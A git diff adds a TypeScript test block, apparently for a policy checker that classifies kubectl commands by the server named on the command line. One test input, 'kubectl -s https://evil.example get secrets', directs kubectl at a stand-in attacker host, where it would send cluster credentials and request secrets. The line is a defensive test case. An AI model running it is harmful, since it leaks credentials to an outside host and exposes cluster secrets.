@@ -200,3 +200,11 @@ describe('kubeconfig reading (policy/kubeconfig.ts)', () => {
     assert.equal(m.clusters.get('dev'), 'https://dev.k8s.acme.io');
   });
 });
+
+staging('a server named on the line says the environment of the credentials sent there', [
+  ask('sudo kubectl --server=https://prod-eu.k8s.acme.io apply -f x.yaml', { production: true }),
+  ask('kubectl -s https://prod-eu.k8s.acme.io get secrets', { production: true }),
+  ask('kubectl -s https://evil.example get secrets', { production: false }),
+  allow('kubectl -s https://127.0.0.1:6443 get pods'),
+  allow('kubectl --server=https://localhost:6443 get pods'),
+]);
